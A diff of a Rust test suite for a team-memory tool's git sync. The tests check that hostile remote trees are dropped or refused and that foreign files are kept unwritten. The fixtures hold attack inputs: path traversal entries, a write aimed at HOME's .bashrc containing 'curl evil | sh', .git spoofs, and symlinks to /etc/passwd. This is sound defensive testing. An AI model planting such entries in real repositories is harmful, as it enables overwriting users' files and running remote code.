@@ -1,7 +1,9 @@
-//! Team sync against a hostile remote (issue 11, items 1 and 15; DESIGN §8, §10): trees whose
-//! entries leave `team/` or are not memory files, a push that loses a race, a teammate's secret,
-//! and a sync killed while `git` talks to a remote that never answers. The hostile trees are raw
-//! objects written with the real git's plumbing into a plain bare remote, which accepts them.
+//! Team sync against a hostile remote, and a remote as hosting sites create them (issues 11 and
+//! 32; DESIGN §8, §10): entries that are not memory files (kept in git, never written), entries
+//! git refuses to check out (dropped from what memdir merges and pushes), trees too big to take,
+//! a push that loses a race, a teammate's secret, and a sync killed while `git` talks to a
+//! remote that never answers. The hostile trees are raw objects written with the real git's
+//! plumbing into a plain bare remote, which accepts them.
 
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
@@ -16,59 +18,118 @@ use crate::common::{
 /// What a hostile tree entry points to.
 enum Content {
     Blob(Vec<u8>),
-    /// A folder holding one memory file.
-    Folder,
+    /// A folder holding one memory file, and one more entry (name, mode, blob) when given.
+    Folder(Option<(&'static str, &'static str)>),
     /// A submodule: the remote's current commit.
     Gitlink,
 }
 
-/// One hostile entry: its name, mode and content, and what the refusal must say about it.
-struct Hostile {
+/// One tree entry: its name, mode and content.
+struct Entry {
     name: Vec<u8>,
     mode: &'static str,
     content: Content,
-    /// The entry as the one-line error names it.
-    shown: String,
 }
 
-fn hostile(name: &str, mode: &'static str, content: Content) -> Hostile {
-    Hostile {
+fn entry(name: &str, mode: &'static str, content: Content) -> Entry {
+    Entry {
         name: name.as_bytes().to_vec(),
         mode,
         content,
-        shown: name.to_string(),
     }
 }
 
-/// Every kind of entry a team tree must not hold. `home` is the victim's HOME.
-fn hostile_entries(home: &Path) -> Vec<Hostile> {
+/// What a hosting site's new repository holds, and what teammates add by hand: entries that are
+/// not memory files, each with the name `git ls-tree` gives it.
+fn foreign_entries() -> Vec<(Entry, &'static str)> {
     let memory = b"---\nname: run\ndescription: d\ntype: project\n---\nbody\n".to_vec();
     vec![
-        // Joined to the team dir, these land in the memory dir and in HOME.
-        hostile(
-            "../escaped.md",
-            "100644",
-            Content::Blob(b"escaped\n".to_vec()),
-        ),
-        hostile(
-            &format!("{}/.bashrc", home.display()),
-            "100644",
-            Content::Blob(b"curl evil | sh\n".to_vec()),
-        ),
-        hostile(".git", "100644", Content::Blob(b"gitdir: /tmp\n".to_vec())),
-        hostile("notes", "40000", Content::Folder),
-        hostile("link.md", "120000", Content::Blob(b"/etc/passwd".to_vec())),
-        hostile("sub", "160000", Content::Gitlink),
-        hostile("run.md", "100755", Content::Blob(memory)),
-        hostile(
-            "big.md",
-            "100644",
-            Content::Blob(vec![b'a'; 300 * 1024].into_iter().chain(*b"\n").collect()),
-        ),
-        hostile(
+        (
+            entry(
+                "README.md",
+                "100644",
+                Content::Blob(b"# Team memory\n".to_vec()),
+            ),
             "README.md",
-            "100644",
-            Content::Blob(b"# Team memory\n".to_vec()),
+        ),
+        (
+            entry(
+                "LICENSE",
+                "100644",
+                Content::Blob(b"MIT License\n".to_vec()),
+            ),
+            "LICENSE",
+        ),
+        (entry("docs", "40000", Content::Folder(None)), "docs"),
+        (
+            entry("link.md", "120000", Content::Blob(b"/etc/passwd".to_vec())),
+            "link.md",
+        ),
+        (
+            entry(
+                ".gitattributes",
+                "100644",
+                Content::Blob(b"*.md text eol=lf\n".to_vec()),
+            ),
+            ".gitattributes",
+        ),
+        (
+            entry(
+                ".gitmodules",
+                "100644",
+                Content::Blob(b"[submodule \"sub\"]\n\tpath = sub\n\turl = ./sub\n".to_vec()),
+            ),
+            ".gitmodules",
+        ),
+        (entry("sub", "160000", Content::Gitlink), "sub"),
+        (entry("run.md", "100755", Content::Blob(memory)), "run.md"),
+    ]
+}
+
+/// Entries git itself refuses to check out, at the top and deeper: dropped, with the path the
+/// report names.
+fn refused_entries(home: &Path) -> Vec<(Entry, String)> {
+    vec![
+        (
+            entry(
+                "../escaped.md",
+                "100644",
+                Content::Blob(b"escaped\n".to_vec()),
+            ),
+            "../escaped.md".into(),
+        ),
+        (
+            entry(
+                &format!("{}/.bashrc", home.display()),
+                "100644",
+                Content::Blob(b"curl evil | sh\n".to_vec()),
+            ),
+            format!("{}/.bashrc", home.display()),
+        ),
+        (
+            entry(".git", "100644", Content::Blob(b"gitdir: /tmp\n".to_vec())),
+            ".git".into(),
+        ),
+        (entry(".GIT", "40000", Content::Folder(None)), ".GIT".into()),
+        (
+            entry("GIT~1", "40000", Content::Folder(None)),
+            "GIT~1".into(),
+        ),
+        (
+            entry(
+                "notes",
+                "40000",
+                Content::Folder(Some((".git", "gitdir: /tmp\n"))),
+            ),
+            "notes/.git".into(),
+        ),
+        (
+            entry(
+                ".gitmodules",
+                "120000",
+                Content::Blob(b"/etc/passwd".to_vec()),
+            ),
+            ".gitmodules".into(),
         ),
     ]
 }
@@ -118,39 +179,55 @@ fn tip(repo: &Path) -> String {
     git(repo, &["rev-parse", "HEAD"]).trim().to_string()
 }
 
-/// Commit, on the remote's branch, its tree plus `entry`; the branch moves there.
-fn push_hostile(remote: &Path, entry: &Hostile) -> String {
+fn blob(repo: &Path, bytes: &[u8]) -> String {
+    git_stdin(repo, &["hash-object", "-w", "--stdin"], bytes)
+        .trim()
+        .to_string()
+}
+
+/// Commit, on the remote's branch, its tree with `entries` added (replacing those of the same
+/// name); the branch moves there.
+fn push_entries(remote: &Path, entries: &[&Entry]) -> String {
     let parent = tip(remote);
-    let mut entries: Vec<(String, Vec<u8>, String)> = git(remote, &["ls-tree", "HEAD"])
+    let mut tree: Vec<(String, Vec<u8>, String)> = git(remote, &["ls-tree", "HEAD"])
         .lines()
         .map(|line| {
             let (meta, name) = line.split_once('\t').expect("ls-tree line");
             let mut fields = meta.split(' ');
-            let mode = fields.next().expect("mode").to_string();
+            // `ls-tree` pads a folder's mode (`040000`); a tree object must not.
+            let mode = fields
+                .next()
+                .expect("mode")
+                .trim_start_matches('0')
+                .to_string();
             let id = fields.nth(1).expect("id").to_string();
             (mode, name.as_bytes().to_vec(), id)
         })
         .collect();
-    let id = match &entry.content {
-        Content::Blob(bytes) => git_stdin(remote, &["hash-object", "-w", "--stdin"], bytes),
-        Content::Folder => {
-            let blob = git_stdin(remote, &["hash-object", "-w", "--stdin"], b"inside\n");
-            raw_tree(
-                remote,
-                &[("100644".into(), b"x.md".to_vec(), blob.trim().into())],
-            )
-        }
-        Content::Gitlink => parent.clone(),
-    };
-    entries.push((
-        entry.mode.to_string(),
-        entry.name.clone(),
-        id.trim().to_string(),
-    ));
-    let tree = raw_tree(remote, &entries);
+    for entry in entries {
+        let id = match &entry.content {
+            Content::Blob(bytes) => blob(remote, bytes),
+            Content::Folder(more) => {
+                let mut inside =
+                    vec![("100644".into(), b"x.md".to_vec(), blob(remote, b"inside\n"))];
+                if let Some((name, text)) = more {
+                    inside.push((
+                        "100644".into(),
+                        name.as_bytes().to_vec(),
+                        blob(remote, text.as_bytes()),
+                    ));
+                }
+                raw_tree(remote, &inside)
+            }
+            Content::Gitlink => parent.clone(),
+        };
+        tree.retain(|(_, name, _)| *name != entry.name);
+        tree.push((entry.mode.to_string(), entry.name.clone(), id));
+    }
+    let tree = raw_tree(remote, &tree);
     let commit = git(
         remote,
-        &["commit-tree", &tree, "-p", &parent, "-m", "hostile"],
+        &["commit-tree", &tree, "-p", &parent, "-m", "by hand"],
     )
     .trim()
     .to_string();
@@ -158,46 +235,100 @@ fn push_hostile(remote: &Path, entry: &Hostile) -> String {
     commit
 }
 
-/// Every file under the test's root but the team clone's `.git` (where a refused fetch may
-/// leave objects and a remote-tracking ref): "nothing was written".
-fn written(mate: &Mate) -> BTreeMap<PathBuf, Vec<u8>> {
-    let git_dir = mate.team.join(".git");
-    tree_snapshot(&mate.env.root)
-        .into_iter()
-        .filter(|(path, _)| !path.starts_with(&git_dir))
+/// The remote's top-level entry names.
+fn remote_names(remote: &Path) -> Vec<String> {
+    git(remote, &["ls-tree", "--name-only", "HEAD"])
+        .lines()
+        .map(str::to_string)
         .collect()
 }
 
-/// Each hostile entry, pushed on top of the remote's `main`, is refused by `me`'s sync as a
-/// whole: exit 2, one line naming the entry and the commit, nothing written anywhere, the local
-/// branch where it was, the clone sound. The remote is put back after each.
-fn assert_each_hostile_tree_refused(remote: &Path, me: &Mate) {
-    let good = tip(remote);
-    std::fs::write(me.env.home.join(".bashrc"), "original\n").expect("bashrc");
-    for entry in hostile_entries(&me.env.home) {
-        let before = written(me);
-        let head_before = tip(&me.team);
-        let commit = push_hostile(remote, &entry);
-        let run = me.env.run(&["team", "sync"]);
-        let what = &entry.shown;
-        assert_eq!(run.code, 2, "{what}: {}{}", run.stdout, run.stderr);
-        assert_eq!(run.error_lines().len(), 1, "{what}: {}", run.stderr);
-        assert!(run.stderr.starts_with("error: "), "{what}: {}", run.stderr);
-        assert!(
-            run.stderr.contains(what.as_str()) && run.stderr.contains(&commit[..12]),
-            "{what} and {commit} not named: {}",
-            run.stderr
-        );
-        assert_eq!(written(me), before, "{what}: something was written");
-        assert_eq!(tip(&me.team), head_before, "{what}: the branch moved");
-        assert_git_clean(&me.team);
-        git(remote, &["update-ref", &branch(remote), &good]);
-    }
-    assert!(!me.env.home.join("escaped.md").exists());
-    assert_eq!(
-        std::fs::read_to_string(me.env.home.join(".bashrc")).expect("bashrc"),
-        "original\n"
+/// The remote's paths, at any depth.
+fn remote_paths(remote: &Path) -> Vec<String> {
+    git(remote, &["ls-tree", "-r", "-t", "--name-only", "HEAD"])
+        .lines()
+        .map(str::to_string)
+        .collect()
+}
+
+/// Everything under a teammate's test root (their HOME, the project, the memory dirs).
+fn written(mate: &Mate) -> BTreeMap<PathBuf, Vec<u8>> {
+    tree_snapshot(&mate.env.root)
+}
+
+/// What changed under the teammate's whole test root, HOME included, since `before`, but in
+/// the team clone's `.git` (where a fetch stores what it brought).
+fn changed_since(mate: &Mate, before: &BTreeMap<PathBuf, Vec<u8>>) -> Vec<PathBuf> {
+    let after = written(mate);
+    let git_dir = mate.team.join(".git");
+    after
+        .iter()
+        .filter(|(path, bytes)| before.get(*path) != Some(bytes))
+        .map(|(path, _)| path.clone())
+        .chain(
+            before
+                .keys()
+                .filter(|path| !after.contains_key(*path))
+                .cloned(),
+        )
+        .filter(|path| !path.starts_with(&git_dir))
+        .collect()
+}
+
+/// Nothing changed under the teammate's whole test root, HOME included, since `before`, but in
+/// the team clone's `.git` and its top-level memory files.
+fn assert_only_team_memory_written(mate: &Mate, before: &BTreeMap<PathBuf, Vec<u8>>) {
+    let changed: Vec<PathBuf> = changed_since(mate, before)
+        .into_iter()
+        .filter(|path| {
+            let name = path
+                .file_name()
+                .and_then(|n| n.to_str())
+                .unwrap_or_default();
+            let memory = name == "MEMORY.md"
+                || (name.ends_with(".md")
+                    && name.starts_with(|c: char| c.is_ascii_lowercase() || c.is_ascii_digit()));
+            !(path.parent() == Some(mate.team.as_path()) && memory)
+        })
+        .collect();
+    assert!(
+        changed.is_empty(),
+        "written outside team memory: {changed:?}"
     );
+}
+
+/// The same files with the same bytes; the paths that differ otherwise.
+fn assert_same_files(before: &BTreeMap<PathBuf, Vec<u8>>, after: &BTreeMap<PathBuf, Vec<u8>>) {
+    let differ: Vec<&PathBuf> = before
+        .keys()
+        .chain(after.keys())
+        .filter(|path| before.get(*path) != after.get(*path))
+        .collect();
+    assert!(differ.is_empty(), "changed: {differ:?}");
+}
+
+/// The team clone is sound as the real git sees it. A remote history that holds entries git
+/// refuses to check out stays in the clone's history (its commits are our parents), so git's
+/// fsck is told to accept those names, and only those.
+fn assert_clone_sound(dir: &Path) {
+    git(
+        dir,
+        &[
+            "-c",
+            "fsck.hasDotgit=ignore",
+            "-c",
+            "fsck.hasDotdot=ignore",
+            "-c",
+            "fsck.fullPathname=ignore",
+            "-c",
+            "fsck.gitmodulesSymlink=ignore",
+            "fsck",
+            "--strict",
+            "--no-progress",
+        ],
+    );
+    let status = git(dir, &["status", "--porcelain", "--untracked-files=all"]);
+    assert_eq!(status, "", "git status in {} is not clean", dir.display());
 }
 
 /// A bare remote, a teammate who saved a memory there, and me, who joined after.
@@ -211,124 +342,304 @@ fn a_teammate_and_me() -> (TestEnv, PathBuf, Mate, Mate) {
     (root, remote, mate, me)
 }
 
-#[test]
-fn a_hostile_tree_is_refused_whole_on_the_fast_forward_path() {
-    let (_root, remote, _mate, me) = a_teammate_and_me();
-    assert_each_hostile_tree_refused(&remote, &me);
-    // The remote is sound again: sync goes on as if nothing happened.
-    assert_eq!(me.sync()["integrated"], "up to date");
-    assert!(me.files().contains_key("deploy-window.md"));
-    assert_git_clean(&me.team);
+/// Each entry that is not a memory file, pushed by hand on top of the remote's branch: my sync
+/// succeeds, names it once as kept, never writes it, pushes my work with it still in the tree,
+/// and writes nothing anywhere but team memory. With `mine`, I have a memory of my own to push
+/// each time (the merge path); without, it is a fast-forward.
+fn assert_each_foreign_entry_kept(remote: &Path, me: &Mate, mine: bool) {
+    for (n, (entry, name)) in foreign_entries().into_iter().enumerate() {
+        if mine {
+            me.save(&format!("mine-{n}"), &format!("My memory number {n}."));
+        }
+        let before = written(me);
+        push_entries(remote, &[&entry]);
+        let run = me.env.ok(&["team", "sync", "--json"]);
+        let synced = run.json();
+        assert_eq!(
+            synced["integrated"],
+            if mine { "merged" } else { "fast-forward" },
+            "{name}: {synced}"
+        );
+        let kept = synced["foreign"].to_string();
+        assert!(kept.contains(name), "{name} not reported as kept: {synced}");
+        assert!(!me.team.join(name).exists(), "{name} was written");
+        assert!(
+            remote_names(remote).iter().any(|n| n == name),
+            "{name} left the remote's tree"
+        );
+        if mine {
+            assert_eq!(synced["pushed"], true, "{name}: {synced}");
+            assert!(git(remote, &["ls-tree", "HEAD"]).contains(&format!("mine-{n}.md")));
+        }
+        assert_only_team_memory_written(me, &before);
+        assert_clone_sound(&me.team);
+        // Plain output names them once, in one line.
+        let plain = me.env.ok(&["team", "sync"]);
+        let lines: Vec<&str> = plain
+            .stdout
+            .lines()
+            .filter(|l| l.contains("memdir does not manage"))
+            .collect();
+        assert_eq!(lines.len(), 1, "{}", plain.stdout);
+        assert!(lines[0].contains(name), "{}", plain.stdout);
+    }
 }
 
 #[test]
-fn a_hostile_tree_is_refused_whole_on_the_merge_path() {
+fn entries_that_are_not_memory_files_are_kept_on_the_fast_forward_path() {
     let (_root, remote, mate, me) = a_teammate_and_me();
-    // My own commit, not on the remote: every hostile tip has to be merged.
-    me.save("oncall-channel", "Pages go to #payments-oncall.");
-    assert_each_hostile_tree_refused(&remote, &me);
-    let synced = me.sync();
-    assert_eq!(synced["pushed"], true, "{synced}");
-    mate.sync();
-    assert!(mate.files().contains_key("oncall-channel.md"));
-    // (The remote itself keeps the hostile objects, unreachable: its fsck would fail.)
-    assert_git_clean(&me.team);
-    assert_git_clean(&mate.team);
+    assert_each_foreign_entry_kept(&remote, &me, false);
+    // The teammate's clone follows and carries them too.
+    assert_eq!(mate.sync()["integrated"], "fast-forward");
+    assert!(!mate.team.join("README.md").exists());
+    assert_clone_sound(&mate.team);
+    assert_only_fast_forwards(&remote);
 }
 
 #[test]
-fn a_folder_pushed_by_hand_is_refused_until_removed_and_never_wedges_sync() {
-    let (_root, _remote, mate, me) = a_teammate_and_me();
-    // A teammate commits a folder with plain git, as people do.
-    std::fs::create_dir(mate.team.join("docs")).expect("docs");
-    std::fs::write(mate.team.join("docs/guide.md"), "A guide.\n").expect("guide");
-    git(&mate.team, &["add", "docs"]);
-    git(&mate.team, &["commit", "-q", "-m", "docs"]);
-    git(&mate.team, &["push", "-q", "origin", "HEAD"]);
-    let bad = tip(&mate.team);
-    me.save("oncall-channel", "Pages go to #payments-oncall.");
+fn entries_that_are_not_memory_files_are_kept_on_the_merge_path() {
+    let (_root, remote, mate, me) = a_teammate_and_me();
+    assert_each_foreign_entry_kept(&remote, &me, true);
+    let synced = mate.sync();
+    assert_eq!(synced["integrated"], "fast-forward", "{synced}");
+    assert_eq!(mate.files(), me.files());
+    // My own saves and removals never touch them.
+    me.env.ok(&["rm", "mine-0", "--team"]);
+    assert_eq!(me.sync()["pushed"], true);
+    let names = remote_names(&remote);
+    for (_, name) in foreign_entries() {
+        assert!(names.iter().any(|n| n == name), "{name} lost: {names:?}");
+    }
+    assert!(!names.iter().any(|n| n == "mine-0.md"));
+    assert_clone_sound(&me.team);
+    assert_only_fast_forwards(&remote);
+}
+
+/// Each entry git refuses to check out, pushed by hand on top of the remote's branch: my sync
+/// succeeds, drops it from what it merges and pushes (the remote's tree loses it), reports it,
+/// and writes nothing anywhere but team memory.
+#[test]
+fn entries_git_refuses_are_dropped_and_sync_goes_on() {
+    let (_root, remote, mate, me) = a_teammate_and_me();
+    std::fs::write(me.env.home.join(".bashrc"), "original\n").expect("bashrc");
+    for (mine, (entry, path)) in [false, true].into_iter().flat_map(|mine| {
+        refused_entries(&me.env.home)
+            .into_iter()
+            .map(move |e| (mine, e))
+    }) {
+        if mine {
+            me.save("mine", &format!("My memory, before {path}."));
+        }
+        let before = written(&me);
+        let bad = push_entries(&remote, &[&entry]);
+        let run = me.env.ok(&["team", "sync", "--json"]);
+        let synced = run.json();
+        let dropped = synced["dropped"].to_string();
+        assert!(
+            dropped.contains(&format!("{path:?}").replace('\\', "\\\\")) || dropped.contains(&path),
+            "{path} not reported as dropped: {synced}"
+        );
+        assert_eq!(synced["pushed"], true, "{path}: {synced}");
+        let paths = remote_paths(&remote);
+        assert!(
+            !paths.iter().any(|p| p == &path),
+            "{path} is still in the remote's tree: {paths:?}"
+        );
+        // What the remote had is still there: the commit that dropped it is on top of it.
+        let parents = git(&remote, &["log", "-1", "--format=%P", "HEAD"]);
+        assert!(parents.contains(&bad), "{path}: {parents}");
+        assert_only_team_memory_written(&me, &before);
+        assert_clone_sound(&me.team);
+        let plain = me.env.ok(&["team", "sync"]);
+        assert!(
+            !plain.stderr.contains("dropped"),
+            "reported twice: {}",
+            plain.stderr
+        );
+    }
+    assert!(!me.env.home.join("escaped.md").exists());
+    assert_eq!(
+        std::fs::read_to_string(me.env.home.join(".bashrc")).expect("bashrc"),
+        "original\n"
+    );
+    // The teammate fast-forwards to the tree without them.
+    let before = written(&mate);
+    assert_eq!(mate.sync()["integrated"], "fast-forward");
+    assert_only_team_memory_written(&mate, &before);
+    assert_eq!(mate.files(), me.files());
+    assert_only_fast_forwards(&remote);
+}
+
+#[test]
+fn a_topic_file_over_its_cap_is_dropped_and_a_huge_index_refused_whole() {
+    let (_root, remote, _mate, me) = a_teammate_and_me();
+    let big: Vec<u8> = vec![b'a'; 300 * 1024].into_iter().chain(*b"\n").collect();
+    push_entries(&remote, &[&entry("big.md", "100644", Content::Blob(big))]);
+    let synced = me.sync();
+    assert!(synced["dropped"].to_string().contains("big.md"), "{synced}");
+    assert!(!me.team.join("big.md").exists());
+    assert!(!remote_names(&remote).iter().any(|n| n == "big.md"));
+    // An index over 4 MiB: nothing can be taken without it, so nothing is.
+    let good = tip(&remote);
     let head_before = tip(&me.team);
-    let run = me.env.fails(&["team", "sync"], 2, "\"docs\" (a folder)");
+    let before = written(&me);
+    let huge = "- [A](a.md) — a\n".repeat(300_000).into_bytes();
+    let bad = push_entries(
+        &remote,
+        &[&entry("MEMORY.md", "100644", Content::Blob(huge))],
+    );
+    let run = me.env.fails(&["team", "sync"], 2, "MEMORY.md of");
     assert_eq!(run.error_lines().len(), 1, "{}", run.stderr);
     assert!(run.stderr.contains(&bad[..12]), "{}", run.stderr);
-    assert!(run.stderr.contains("remove it"), "{}", run.stderr);
     assert_eq!(tip(&me.team), head_before);
-    assert!(!me.team.join("docs").exists());
-    assert_git_clean(&me.team);
-    // Fixed on the remote by a later commit: the folder stays in history, sync goes on.
-    git(&mate.team, &["rm", "-q", "-r", "docs"]);
-    git(&mate.team, &["commit", "-q", "-m", "no docs"]);
-    git(&mate.team, &["push", "-q", "origin", "HEAD"]);
-    let synced = me.sync();
-    assert_eq!(synced["integrated"], "merged", "{synced}");
-    assert_eq!(synced["pushed"], true, "{synced}");
-    assert!(!me.team.join("docs").exists());
-    assert!(me.files().contains_key("deploy-window.md"));
-    mate.sync();
-    assert_eq!(mate.files(), me.files());
-    assert_git_clean(&me.team);
-    assert_git_clean(&mate.team);
+    assert_eq!(changed_since(&me, &before), Vec::<PathBuf>::new());
+    git(&remote, &["update-ref", &branch(&remote), &good]);
+    assert_eq!(me.sync()["integrated"], "up to date");
+    assert_clone_sound(&me.team);
+}
+
+/// A repository as GitHub or GitLab creates it: a README and a licence on `main`.
+fn hosted_remote(root: &Path) -> PathBuf {
+    let remote = bare_remote(root);
+    let seed = root.join("seed");
+    git(
+        root,
+        &["init", "-q", "-b", "main", seed.to_str().expect("utf-8")],
+    );
+    std::fs::write(seed.join("README.md"), "# memory\nOur team's memory.\n").expect("readme");
+    std::fs::write(seed.join("LICENSE"), "MIT License\n").expect("licence");
+    git(&seed, &["add", "-A"]);
+    git(
+        &seed,
+        &[
+            "-c",
+            "user.name=GitHub",
+            "-c",
+            "user.email=noreply@github.com",
+            "commit",
+            "-q",
+            "-m",
+            "Initial commit",
+        ],
+    );
+    git(
+        &seed,
+        &["push", "-q", remote.to_str().expect("utf-8"), "main"],
+    );
+    git(&remote, &["symbolic-ref", "HEAD", "refs/heads/main"]);
+    remote
 }
 
 #[test]
-fn joining_a_remote_whose_tree_is_not_memory_files_is_refused() {
-    let (_root, remote, mate, _me) = a_teammate_and_me();
-    let good = tip(&remote);
-    std::fs::create_dir(mate.team.join("docs")).expect("docs");
-    std::fs::write(mate.team.join("docs/guide.md"), "A guide.\n").expect("guide");
-    git(&mate.team, &["add", "docs"]);
-    git(&mate.team, &["commit", "-q", "-m", "docs"]);
-    git(&mate.team, &["push", "-q", "origin", "HEAD"]);
+fn a_repository_as_hosting_sites_create_it_is_a_team_remote() {
+    let root = TestEnv::new();
+    let remote = hosted_remote(&root.root);
+    let a = Mate::join(&remote).limited(HOSTILE_LIMIT_KB);
+    assert!(!a.team.join("README.md").exists() && !a.team.join("LICENSE").exists());
+    assert_clone_sound(&a.team);
+    a.save("deploy-window", "Deploys happen Tuesday to Thursday only.");
+    let synced = a.sync();
+    assert_eq!(synced["pushed"], true, "{synced}");
+    assert_eq!(
+        synced["foreign"].as_array().map(Vec::len),
+        Some(2),
+        "{synced}"
+    );
+    let b = Mate::join(&remote).limited(HOSTILE_LIMIT_KB);
+    assert!(b.files().contains_key("deploy-window.md"));
+    b.save("oncall", "Pages go to #payments-oncall.");
+    b.sync();
+    a.sync();
+    assert_eq!(a.files(), b.files());
+    let names = remote_names(&remote);
+    for name in [
+        "README.md",
+        "LICENSE",
+        "MEMORY.md",
+        "deploy-window.md",
+        "oncall.md",
+    ] {
+        assert!(names.iter().any(|n| n == name), "{name}: {names:?}");
+    }
+    // The README is the remote's as GitHub made it.
+    assert_eq!(
+        git(&remote, &["show", "HEAD:README.md"]),
+        "# memory\nOur team's memory.\n"
+    );
+    assert_clone_sound(&a.team);
+    assert_clone_sound(&b.team);
+    assert_only_fast_forwards(&remote);
+}
+
+#[test]
+fn joining_a_remote_that_holds_entries_git_refuses_drops_them() {
+    let (_root, remote, _mate, _me) = a_teammate_and_me();
+    push_entries(
+        &remote,
+        &[
+            &entry("../escaped.md", "100644", Content::Blob(b"x\n".to_vec())),
+            &entry(
+                "docs",
+                "40000",
+                Content::Folder(Some((".git", "gitdir: /tmp\n"))),
+            ),
+        ],
+    );
     let mut newcomer = TestEnv::new();
     newcomer.limit_memory(HOSTILE_LIMIT_KB);
     let memory_dir = newcomer.memory_dir();
     let url = remote.to_str().expect("utf-8");
-    let run = newcomer.fails(&["team", "init", "--remote", url], 2, "\"docs\" (a folder)");
-    assert_eq!(run.error_lines().len(), 1, "{}", run.stderr);
+    let run = newcomer.ok(&["team", "init", "--remote", url, "--json"]);
+    let joined = run.json();
+    let dropped = joined["dropped"].to_string();
     assert!(
-        run.stderr.contains("memdir team init again"),
-        "{}",
-        run.stderr
+        dropped.contains("../escaped.md") && dropped.contains("docs/.git"),
+        "{joined}"
     );
-    assert!(!memory_dir.join("team").exists());
-    // A path out of the team dir: git's own checks refuse the clone.
-    git(&remote, &["update-ref", &branch(&remote), &good]);
-    push_hostile(
-        &remote,
-        &hostile("../escaped.md", "100644", Content::Blob(b"x\n".to_vec())),
+    assert!(joined["foreign"].to_string().contains("docs/"), "{joined}");
+    let team = memory_dir.join("team");
+    assert!(team.join("deploy-window.md").is_file());
+    assert!(!memory_dir.join("escaped.md").exists() && !team.join("docs").exists());
+    assert_clone_sound(&team);
+    // Joining again with the same remote, written another way, changes nothing.
+    let before = tree_snapshot(&newcomer.root);
+    let again = newcomer.ok(&["team", "init", "--remote", &format!("file://{url}/")]);
+    assert!(again.stdout.contains("nothing to do"), "{}", again.stdout);
+    assert_same_files(&before, &tree_snapshot(&newcomer.root));
+    // Another remote: refused, with how to switch.
+    let other = bare_remote(&newcomer.root);
+    let run = newcomer.fails(
+        &["team", "init", "--remote", other.to_str().expect("utf-8")],
+        2,
+        "remote set-url origin",
     );
-    let run = newcomer.fails(&["team", "init", "--remote", url], 2, "git refuses");
     assert_eq!(run.error_lines().len(), 1, "{}", run.stderr);
-    assert!(!memory_dir.join("team").exists());
-    assert!(!memory_dir.join("escaped.md").exists());
-    // Once the remote is sound, joining works.
-    git(&remote, &["update-ref", &branch(&remote), &good]);
-    newcomer.ok(&["team", "init", "--remote", url]);
-    assert!(memory_dir.join("team/deploy-window.md").is_file());
-    assert_git_clean(&memory_dir.join("team"));
+    let mut after = tree_snapshot(&newcomer.root);
+    after.retain(|path, _| !path.starts_with(&other));
+    assert_same_files(&before, &after);
 }
 
 #[test]
 fn my_own_tree_is_held_to_the_same_rules_before_a_push() {
     let (_root, remote, mate, me) = a_teammate_and_me();
     let before = tip(&remote);
-    // Committed by hand in my clone, past memdir: not a memory file.
+    // Committed by hand in my clone, past memdir: a README is mine to share.
     std::fs::write(me.team.join("README.md"), "# Team notes\n").expect("readme");
     git(&me.team, &["add", "README.md"]);
     git(&me.team, &["commit", "-q", "-m", "readme by hand"]);
-    let run = me.env.fails(&["team", "sync"], 2, "\"README.md\"");
-    assert!(run.stderr.contains("not a memory file"), "{}", run.stderr);
-    assert_eq!(run.error_lines().len(), 1, "{}", run.stderr);
-    assert!(run.stderr.contains("nothing was pushed"), "{}", run.stderr);
-    assert_eq!(tip(&remote), before);
-    // Removed, it no longer stands in the way; the teammates never see it.
-    git(&me.team, &["rm", "-q", "README.md"]);
-    git(&me.team, &["commit", "-q", "-m", "no readme"]);
     assert_eq!(me.sync()["pushed"], true);
     mate.sync();
-    assert!(!mate.files().contains_key("README.md"));
-    assert_git_clean(&me.team);
-    assert_git_clean(&mate.team);
+    assert!(!mate.team.join("README.md").exists());
+    assert!(remote_names(&remote).iter().any(|n| n == "README.md"));
+    // A folder named like git's own, committed with git's plumbing: never pushed.
+    let bad = push_entries(&me.team, &[&entry(".GIT", "40000", Content::Folder(None))]);
+    let pushed_before = tip(&remote);
+    let run = me.env.fails(&["team", "sync"], 2, "\".GIT\"");
+    assert!(run.stderr.contains("nothing was pushed"), "{}", run.stderr);
+    assert!(run.stderr.contains(&bad[..12]), "{}", run.stderr);
+    assert_eq!(run.error_lines().len(), 1, "{}", run.stderr);
+    assert_eq!(tip(&remote), pushed_before);
+    assert_ne!(pushed_before, before);
 }
 
 /// `memdir team sync` started in the background.
